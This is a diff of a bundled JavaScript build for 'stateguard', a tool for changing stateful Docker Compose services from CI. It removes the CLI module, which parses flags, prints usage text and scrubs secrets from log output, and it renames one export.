+function action_annotate(c, a, scrub) {
     const msg = scrub.scrub(a.message);
     if (a.level === 'error')
         c.error(msg, place(a));
@@ -49772,158 +62718,6 @@ function annotate(c, a, scrub) {
 }
 function action_firstLine(text) {
     return text.split('\n')[0] ?? '';
-}
-
-;// CONCATENATED MODULE: ./src/cli.ts
-/**
- * `stateguard <command> [flags]`: argv -> typed options (through the command's one input
- * definition) -> command -> stdout/stderr and exit code (DESIGN §10).
- */
-
-
-
-
-
-
-const VERSION = '0.1.0';
-/** Split argv into raw inputs for one command. Unknown flags are usage errors (exit 3). */
-function parseArgv(spec, argv) {
-    const defs = spec.inputs.filter((d) => !d.actionOnly);
-    const raw = {};
-    const push = (name, value) => {
-        const prev = raw[name];
-        raw[name] = prev === undefined ? [value] : [...(Array.isArray(prev) ? prev : [prev]), value];
-    };
-    const positional = defs.find((d) => d.positional);
-    const rest = defs.find((d) => d.rest);
-    for (let i = 0; i < argv.length; i++) {
-        const arg = argv[i];
-        if (arg === '--') {
-            if (!rest)
-                throw new errors_UserError(`stateguard ${spec.name} takes no command after '--'.`, { input: '--' });
-            for (const r of argv.slice(i + 1))
-                push(rest.name, r);
-            break;
-        }
-        if (arg.startsWith('--')) {
-            const eq = arg.indexOf('=');
-            const name = arg.slice(2, eq === -1 ? undefined : eq);
-            const def = defs.find((d) => d.name === name && !d.positional && !d.rest);
-            if (!def) {
-                const known = defs.filter((d) => !d.positional && !d.rest).map((d) => `--${d.name}`).join(', ');
-                throw new errors_UserError(`unknown flag --${name} for 'stateguard ${spec.name}'. Known flags: ${known}.`, { input: name });
-            }
-            if (eq !== -1)
-                push(name, arg.slice(eq + 1));
-            else if (def.kind === 'boolean')
-                push(name, 'true');
-            else {
-                const value = argv[i + 1];
-                if (value === undefined || (value.startsWith('--') && value.length > 2)) {
-                    throw new errors_UserError(`--${name} needs a value: ${def.description}`, { input: name });
-                }
-                push(name, value);
-                i++;
-            }
-            continue;
-        }
-        if (arg.startsWith('-') && arg !== '-') {
-            throw new errors_UserError(`unknown option ${arg} for 'stateguard ${spec.name}' (flags are --long).`, { input: arg });
-        }
-        if (!positional) {
-            throw new errors_UserError(`unexpected argument ${JSON.stringify(arg)} for 'stateguard ${spec.name}'.`, { input: arg });
-        }
-        push(positional.name, arg);
-    }
-    // Flags given once stay single strings so "given twice" is detected for non-list inputs.
-    for (const [k, v] of Object.entries(raw)) {
-        const def = defs.find((d) => d.name === k);
-        if (Array.isArray(v) && v.length === 1 && def?.kind !== 'list')
-            raw[k] = v[0];
-    }
-    return raw;
-}
-function usage(spec) {
-    if (!spec) {
-        return [
-            `stateguard ${VERSION}: change stateful Docker Compose services from CI without losing data.`,
-            '',
-            'usage: stateguard <command> [flags]',
-            '',
-            'commands:',
-            ...Object.values(COMMANDS).map((c) => `  ${c.name.padEnd(16)} ${c.description}`),
-            '',
-            "Run 'stateguard <command> --help' for its flags. Exit codes: 0 ok, 1 no, 2 drift (plan --detailed-exitcode), 3 could not run.",
-        ].join('\n');
-    }
-    const lines = [`usage: stateguard ${spec.name} [flags]`, '', spec.description, '', 'flags:'];
-    for (const d of spec.inputs.filter((x) => !x.actionOnly)) {
-        const flag = d.positional ? `[${d.name}...]` : d.rest ? `-- ${d.name}...` : `--${d.name}${d.kind === 'boolean' ? '' : ' VALUE'}`;
-        const extra = [d.kind === 'list' && !d.positional && !d.rest ? 'repeatable' : '', d.default ? `default ${d.default}` : '', d.required ? 'required' : '']
-            .filter(Boolean)
-            .join('; ');
-        lines.push(`  ${flag.padEnd(30)} ${d.description}${extra ? ` (${extra})` : ''}`);
-    }
-    return lines.join('\n');
-}
-function cliLogger(io, scrub) {
-    const where = (w) => w?.file ? `${w.file}${w.line ? `:${w.line}${w.column ? `:${w.column}` : ''}` : ''}: ` : '';
-    return {
-        info: (m) => io.stderr(scrub.scrub(m) + '\n'),
-        warn: (m, w) => io.stderr(scrub.scrub(`warning: ${where(w)}${m}`) + '\n'),
-        error: (m, w) => io.stderr(scrub.scrub(`error: ${where(w)}${m}`) + '\n'),
-        notice: (m, w) => io.stderr(scrub.scrub(`notice: ${where(w)}${m}`) + '\n'),
-        raw: (chunk) => io.stderr(scrub.scrub(chunk)),
-    };
-}
-async function runCli(argv, io) {
-    const scrub = new Scrubber();
-    const [name, ...args] = argv;
-    if (name === undefined || name === '--help' || name === '-h' || name === 'help') {
-        io.stdout(usage() + '\n');
-        return name === undefined ? errors_ExitCode.couldNotRun : errors_ExitCode.ok;
-    }
-    if (name === '--version' || name === 'version') {
-        io.stdout(`${VERSION}\n`);
-        return errors_ExitCode.ok;
-    }
-    const spec = getCommand(name);
-    if (!spec) {
-        io.stderr(`stateguard: unknown command ${JSON.stringify(name)}.\n\n${usage()}\n`);
-        return errors_ExitCode.couldNotRun;
-    }
-    if (args.includes('--help') && !args.slice(0, args.indexOf('--help')).includes('--')) {
-        io.stdout(usage(spec) + '\n');
-        return errors_ExitCode.ok;
-    }
-    const jsonMode = args.includes('--json') || args.includes('--json=true');
-    let runtime;
-    const ctx = {
-        cwd: io.cwd,
-        env: io.env,
-        log: cliLogger(io, scrub),
-        now: io.now ?? (() => new Date()),
-        runtime: () => (runtime ??= io.runtime?.() ?? new DockerCli({ env: io.env })),
-        inAction: false,
-        addSecret: (v) => scrub.add(v),
-    };
-    let result;
-    try {
-        const options = parseInputs(spec.inputs.filter((d) => !d.actionOnly), parseArgv(spec, args), cliNames);
-        result = await runCommand(spec, options, ctx);
-    }
-    catch (err) {
-        result = errorResult(spec, err);
-    }
-    if (jsonMode) {
-        io.stdout(scrub.scrub(JSON.stringify(result.json, null, 2)) + '\n');
-        if (result.text)
-            io.stderr(scrub.scrub(result.text) + '\n');
-    }
-    else if (result.text) {
-        (result.exitCode === errors_ExitCode.couldNotRun ? io.stderr : io.stdout)(scrub.scrub(result.text) + '\n');
-    }
-    return result.exitCode;
 }
 
 ;// CONCATENATED MODULE: ./src/main.ts
@@ -49951,7 +62745,7 @@ async function actionMain(name) {
 
 
 var __webpack_exports__COMMANDS = __webpack_exports__.Lo;
-var __webpack_exports__actionInputs = __webpack_exports__.eh;
+var __webpack_exports__FAILURE_REASONS = __webpack_exports__.N9;
 var __webpack_exports__actionMain = __webpack_exports__.g_;
 var __webpack_exports__cliMain = __webpack_exports__.m0;
-export { __webpack_exports__COMMANDS as COMMANDS, __webpack_exports__actionInputs as actionInputs, __webpack_exports__actionMain as actionMain, __webpack_exports__cliMain as cliMain };
+export { __webpack_exports__COMMANDS as COMMANDS, __webpack_exports__FAILURE_REASONS as FAILURE_REASONS, __webpack_exports__actionMain as actionMain, __webpack_exports__cliMain as cliMain };
